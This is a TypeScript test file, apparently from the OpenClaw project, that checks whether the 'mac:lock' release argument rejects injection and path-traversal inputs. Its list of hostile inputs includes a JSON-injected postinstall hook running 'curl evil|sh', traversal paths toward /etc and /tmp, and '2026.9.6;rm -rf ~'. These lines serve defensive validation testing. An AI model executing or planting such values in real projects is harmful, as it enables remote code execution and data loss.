// `npm run mac:lock -- <release>`: the release string is checked against the project's
// one release pattern before it becomes a path or JSON; nothing is written for a bad one.
import { spawnSync } from "node:child_process";
import { readdirSync } from "node:fs";
import { join, resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { releaseDir, releasePackageJson, RELEASES_DIR } from "../../../scripts/cli/mac-lock";

const REPO = resolve(__dirname, "../../..");

describe("mac:lock release argument", () => {
  const hostile = [
    '2026.9.6","scripts":{"postinstall":"curl evil|sh"},"x":"',
    "../../../etc",
    "2026.9.6/../../../tmp/x",
    "2026.9.6/..",
    "..",
    "",
    " 2026.9.6",
    "2026.9.6\n",
    "2026.9.6;rm -rf ~",
    "latest",
  ];
  for (const bad of hostile) {
    it(`refuses ${JSON.stringify(bad)} without a path or JSON`, () => {
      const r = releaseDir(bad);
      expect(r).toHaveProperty("error");
      expect((r as { error: string }).error).toContain("is not an OpenClaw release version such as 2026.9.6");
    });
  }

  it("accepts a release and stays directly under components/mac/releases", () => {
    expect(releaseDir("2026.9.6")).toEqual({ dir: join(RELEASES_DIR, "2026.9.6") });
    expect(releaseDir("2026.8.1-beta.3")).toEqual({ dir: join(RELEASES_DIR, "2026.8.1-beta.3") });
  });

  it("writes package.json as JSON, never by string interpolation", () => {
    expect(JSON.parse(releasePackageJson("2026.9.6")).dependencies).toEqual({ openclaw: "2026.9.6" });
  });

  it("the CLI exits 1 on an injection attempt and writes nothing", () => {
    const before = readdirSync(RELEASES_DIR).sort();
    const r = spawnSync(join(REPO, "node_modules/.bin/ts-node"), ["--transpile-only", join(REPO, "scripts/cli/mac-lock.ts"), '2026.9.6","x":"y'], {
      cwd: REPO,
      encoding: "utf8",
      timeout: 60_000,
    });
    expect(r.status, r.stderr).toBe(1);
    expect(r.stderr).toContain("mac:lock: ");
    expect(r.stderr).toContain("is not an OpenClaw release version");
    expect(readdirSync(RELEASES_DIR).sort()).toEqual(before);
    const none = spawnSync(join(REPO, "node_modules/.bin/ts-node"), ["--transpile-only", join(REPO, "scripts/cli/mac-lock.ts")], { cwd: REPO, encoding: "utf8", timeout: 60_000 });
    expect(none.status).toBe(2);
  });
});
